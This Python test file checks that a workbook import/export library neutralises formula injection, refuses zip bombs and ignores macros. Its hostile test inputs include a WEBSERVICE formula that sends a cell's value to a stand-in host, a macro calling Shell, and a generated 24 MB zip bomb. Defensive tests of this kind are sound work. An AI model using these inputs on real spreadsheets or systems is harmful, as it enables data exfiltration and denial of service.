"""Formula injection, hostile and broken files, macros."""

from __future__ import annotations

import io
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings

from casestd.cli import main
from casestd.testing import records
from casestd.workbook import export, read
from casestd.workbook.safety import RISKY_FIRST, check_file, is_risky, require_defusedxml

RISKY = [
    '=HYPERLINK("http://example.invalid")',
    "+7 900",
    "-1",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "\nLF",
]


@settings(max_examples=5, deadline=None)
@given(child=records("child"))
def test_risky_texts_are_written_as_text_and_read_back(child: Any) -> None:
    names = [n.model_copy(update={"other_names": []}) for n in child.names]
    risky = child.model_copy(
        update={
            "names": [names[0].model_copy(update={"given": "=1+2", "family": "@cmd"})],
            "address": None,
        }
    )
    buffer = io.BytesIO()
    export([risky], buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
        )
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "risky.xlsx"
        path.write_bytes(buffer.getvalue())
        (result,) = read(path)
    back: Any = result.record
    assert back is not None
    assert back.names[0].given == "=1+2" and back.names[0].family == "@cmd"


def test_every_owasp_first_character_is_risky() -> None:
    assert all(is_risky(text) for text in RISKY)
    assert set(RISKY_FIRST) == {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert not is_risky("Անի") and not is_risky(5)


def test_xml_is_parsed_with_defusedxml() -> None:
    require_defusedxml()


def _export_one(path: Path) -> Path:
    from hypothesis import strategies as st

    @settings(max_examples=1, deadline=None, database=None)
    @given(st.data())
    def make(data: st.DataObject) -> None:
        export([data.draw(records("child"))], path)

    make()
    return path


def _status(path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    status = main(["workbook", "import", str(path), "--format", "json"])
    return status, capsys.readouterr().out


@pytest.mark.parametrize(
    "make, rule",
    [
        (
            lambda p, good: p.write_bytes(b"name,sex\n" * 0 + b"\x00\x01binary"),
            "input.not_workbook",
        ),
        (
            lambda p, good: p.write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2]),
            "input.corrupt",
        ),
        (
            lambda p, good: p.write_bytes(
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                + b"\0" * 500
                + "EncryptionInfo".encode("utf-16-le")
            ),
            "input.encrypted",
        ),
        (lambda p, good: p.mkdir(), "input.not_found"),
    ],
    ids=["not-a-workbook", "truncated", "encrypted", "folder"],
)
def test_broken_files_get_a_clear_input_finding_and_exit_2(
    tmp_path: Path, make: Any, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    good = _export_one(tmp_path / "good.xlsx")
    target = tmp_path / "bad.xlsx"
    make(target, good)
    status, out = _status(target, capsys)
    assert status == 2
    assert f'"rule": "{rule}"' in out


def test_zip_bomb_is_refused_before_parsing(tmp_path: Path) -> None:
    good = _export_one(tmp_path / "good.xlsx")
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        with out.open("xl/worksheets/huge.xml", "w") as stream:
            block = b"<row/>" * 100_000
            for _ in range(40):  # 24 MB of the same bytes
                stream.write(block)
    assert check_file(bomb) == "input.zip_bomb"
    (result,) = read(bomb)
    assert result.unreadable


def test_macros_are_neither_run_nor_kept(tmp_path: Path) -> None:
    good = _export_one(tmp_path / "good.xlsx")
    macro = tmp_path / "macro.xlsm"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(macro, "w") as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        out.writestr("xl/vbaProject.bin", b'Attribute VB_Name = "Module1"\nShell "calc"')
    results = read(macro)
    rules = [f.finding.rule for r in results for f in r.findings]
    assert "workbook.macros_ignored" in rules
    assert sum(r.record is not None for r in results) == 1


def test_formula_cells_are_findings_without_their_content(tmp_path: Path) -> None:
    good = _export_one(tmp_path / "good.xlsx")
    book = openpyxl.load_workbook(good)
    children = book[book.sheetnames[1]]
    children["D3"] = '=WEBSERVICE("http://example.invalid/"&A1)'
    book.save(good)
    (result,) = read(good)
    (item,) = result.findings
    assert item.finding.rule == "workbook.formula" and item.location.endswith("!D3")
    assert "WEBSERVICE" not in str(result.to_dict())
